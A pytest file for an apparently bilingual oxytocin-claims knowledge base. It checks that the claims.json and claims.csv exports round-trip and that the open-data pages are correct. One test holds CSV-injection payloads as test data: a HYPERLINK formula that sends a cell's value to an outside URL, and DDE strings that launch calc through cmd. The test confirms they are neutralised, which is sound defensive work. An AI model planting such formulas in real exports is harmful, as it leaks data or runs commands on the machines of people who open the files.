"""claims.json and claims.csv round-trip: read back, they are the knowledge base."""

import csv
import dataclasses
import io
import json

import jsonschema
import pytest
from conftest import REPO, TINY_KB

from oxykb.check import check
from oxykb.model import Localized
from oxykb.publish import opendata


def test_claims_json_round_trips_and_follows_its_published_schema(real_site):
    kb = check(REPO).knowledge_base
    data = json.loads((real_site / "claims.json").read_text("utf-8"))
    schema = json.loads((real_site / "schema/claims-json.schema.json").read_text("utf-8"))
    jsonschema.Draft202012Validator(schema).validate(data)

    assert data["format_version"] == opendata.FORMAT_VERSION
    assert data["license"] is None
    assert [c["id"] for c in data["claims"]] == sorted(kb.claims)
    for item in data["claims"]:
        claim = kb.claims[item["id"]]
        assert item["category"] == claim.category.value and item["grade"] == claim.grade.value
        assert (item["statement"]["nl"], item["statement"]["en"]) == (claim.statement.nl, claim.statement.en)
        assert (item["rationale"]["nl"], item["rationale"]["en"]) == (claim.rationale.nl, claim.rationale.en)
        assert [(q["source"], q["quote"], q["quote_en"], q["role"]) for q in item["sources"]] == [
            (q.source, q.quote, q.quote_en, q.role.value) for q in claim.sources
        ]
        assert (item["direction"], item["background"]) == (claim.direction.value, claim.background)
        assert (item["cites"], item["related"], item["contradicts"], item["tags"]) == (
            list(claim.cites),
            list(claim.related),
            list(claim.contradicts),
            list(claim.tags),
        )
        assert item["reviewed"] == claim.reviewed.isoformat() and item["status"] == claim.status.value
        assert (real_site / item["url"]["nl"] / "index.html").is_file() and (
            real_site / item["url"]["en"] / "index.html"
        ).is_file()
    assert {s["id"]: s.get("doi") for s in data["sources"]} == {s.id: s.doi for s in kb.sources.values()}
    assert data["tags"] == {tag: {"nl": name.nl, "en": name.en} for tag, name in kb.tags.items()}
    assert [q["id"] for q in data["questions"]] == sorted(kb.questions) and kb.questions
    for item in data["questions"]:
        question = kb.questions[item["id"]]
        assert (item["question"]["nl"], item["answer"]["en"]) == (question.question.nl, question.answer.en)
        assert [(c["claim"], c["role"]) for c in item["claims"]] == [(c.claim, c.role.value) for c in question.claims]
        assert (item["tags"], item["reviewed"]) == (list(question.tags), question.reviewed.isoformat())
        assert item["url"] == {"nl": f"questions/{question.id}/", "en": f"en/questions/{question.id}/"}
    assert sum(item["background"] for item in data["claims"]) == 41  # the claims that are not about oxytocin


def test_claims_csv_round_trips(real_site):
    kb = check(REPO).knowledge_base
    rows = list(csv.DictReader(io.StringIO((real_site / "claims.csv").read_text("utf-8"))))
    assert [row["id"] for row in rows] == sorted(kb.claims)
    for row in rows:
        claim = kb.claims[row["id"]]
        assert (row["statement_nl"], row["statement_en"], row["rationale_nl"], row["rationale_en"]) == (
            claim.statement.nl,
            claim.statement.en,
            claim.rationale.nl,
            claim.rationale.en,
        )
        assert row["grade"] == claim.grade.value and row["reviewed"] == claim.reviewed.isoformat()
        assert (row["direction"], row["background"]) == (claim.direction.value, str(claim.background).lower())
        assert row["sources"].split(";") == [q.source for q in claim.sources]
        assert (row["tags"].split(";") if row["tags"] else []) == list(claim.tags)


@pytest.mark.parametrize(
    "prefix, licence, addresses, formula",
    [
        (
            "",
            "Licentie",
            "claims/&lt;id&gt;/ in het Nederlands en en/claims/&lt;id&gt;/ in het Engels",
            "niet als formule",
        ),
        (
            "en/",
            "Licence",
            "claims/&lt;id&gt;/ in Dutch and en/claims/&lt;id&gt;/ in English",
            "not run it as a formula",
        ),
    ],
)
def test_open_data_page_in_both_languages(real_site, prefix, licence, addresses, formula):
    text = (real_site / prefix / "open-data/index.html").read_text("utf-8")
    assert f">{licence}<" in text  # a heading
    root = "../" * (1 + prefix.count("/"))  # the open data is published once, at the site root
    assert f'<a href="{root}claims.json">claims.json</a>' in text
    assert f'<a href="{root}claims.csv">claims.csv</a>' in text
    assert f'<a href="{root}schema/claims-json.schema.json">' in text
    assert addresses in text  # the permanent addresses of a claim, as the site uses them
    assert formula in text  # says that claims.csv neutralises formulas


def test_open_data_is_published_once_at_the_site_root(real_site):
    """Both languages are in each file, so a copy under en/ would only double them (30 MB at 10,000 claims)."""
    assert (real_site / "claims.json").is_file() and (real_site / "claims.csv").is_file()
    assert not (real_site / "en/claims.json").exists() and not (real_site / "en/claims.csv").exists()
    assert not (real_site / "en/schema").exists()


def test_csv_cells_cannot_run_as_spreadsheet_formulas():
    """OWASP's advice against CSV injection: a cell that a spreadsheet would run as a formula starts with a quote."""
    kb = check(TINY_KB).knowledge_base
    hostile = {"nl": '=HYPERLINK("https://example.org/?"&A1,"klik")', "en": "+1+cmd|' /C calc'!A0"}
    claim = dataclasses.replace(
        kb.claims["cuddle-hormone-myth"],
        statement=Localized(**hostile),
        rationale=Localized("-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"),
    )
    kb = dataclasses.replace(kb, claims={**kb.claims, claim.id: claim})

    row = next(row for row in csv.DictReader(io.StringIO(opendata.as_csv(kb))) if row["id"] == claim.id)
    assert (row["statement_nl"], row["statement_en"], row["rationale_nl"], row["rationale_en"]) == (
        "'" + hostile["nl"],
        "'" + hostile["en"],
        "'-2+3",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
    )
    assert row["grade"] == claim.grade.value and row["url_nl"] == f"claims/{claim.id}/"  # other cells as they were
    assert [opendata.spreadsheet_safe(cell) for cell in ("\tx", "\rx", "a=b", "")] == ["'\tx", "'\rx", "a=b", ""]
    data = json.loads(opendata.as_json(kb))
    assert (
        next(item for item in data["claims"] if item["id"] == claim.id)["statement"] == hostile
    )  # claims.json: as written


def test_claims_json_2_0_carries_direction_background_quote_roles_and_study_fields():
    """Format 2.0 on tests/kb, which has one of each: what a reader of claims.json needs to tell them apart."""
    data = json.loads(opendata.as_json(check(TINY_KB).knowledge_base))
    schema = json.loads((REPO / "oxykb/schemas/claims-json.schema.json").read_text("utf-8"))
    jsonschema.Draft202012Validator(schema).validate(data)

    assert data["format_version"] == "2.0"
    claims = {item["id"]: item for item in data["claims"]}
    assert claims["nasal-spray-no-difference-to-trust"]["direction"] == "no-difference"
    assert claims["oxytocin-made-in-hypothalamus"]["direction"] == "effect"  # the default, written out
    assert [c for c, item in claims.items() if item["background"]] == ["stress-raises-heart-rate"]
    assert [q["role"] for q in claims["cuddle-hormone-myth"]["sources"]] == ["support", "claim-as-made"]
    sources = {item["id"]: item for item in data["sources"]}
    assert sources["doe-2020"]["study"] == {
        "design": "randomised-trial",
        "participants": 60,
        "population": {"nl": "gezonde volwassenen", "en": "healthy adults"},
        "intervention": {"nl": "oxytocine-neusspray", "en": "oxytocin nasal spray"},
        "comparator": {"nl": "placebospray", "en": "placebo spray"},
        "outcome": {"nl": "vertrouwen in een spel", "en": "trust in a game"},
    }
    assert "study" not in sources["test-explainer"]  # only where known
    [question] = data["questions"]
    assert question["id"] == "does-nasal-spray-make-people-social"
    assert question["claims"][0] == {"claim": "nasal-spray-makes-people-social", "role": "key-finding"}
    assert question["url"] == {
        "nl": "questions/does-nasal-spray-make-people-social/",
        "en": "en/questions/does-nasal-spray-make-people-social/",
    }


def test_claims_csv_has_a_direction_and_background_column_and_stays_a_row_per_claim():
    kb = check(TINY_KB).knowledge_base
    rows = list(csv.DictReader(io.StringIO(opendata.as_csv(kb))))
    assert [row["id"] for row in rows] == sorted(kb.claims)
    assert {row["id"]: (row["direction"], row["background"]) for row in rows} == {
        "cuddle-hormone-myth": ("effect", "false"),
        "nasal-spray-makes-people-social": ("effect", "false"),
        "nasal-spray-no-difference-to-trust": ("no-difference", "false"),
        "oxytocin-causes-contractions": ("effect", "false"),
        "oxytocin-made-in-hypothalamus": ("effect", "false"),
        "stress-raises-heart-rate": ("effect", "true"),
    }


@pytest.mark.parametrize(
    "prefix, changes",
    [
        ("", "Nieuw in versie 2.0: bij elke bewering de richting van het bewijs"),
        ("en/", "New in version 2.0: for every claim the direction of the evidence"),
    ],
)
def test_open_data_page_says_what_changed_in_2_0(real_site, prefix, changes):
    text = (real_site / prefix / "open-data/index.html").read_text("utf-8")
    assert changes in text and "claim-as-made" in text and "questions" in text
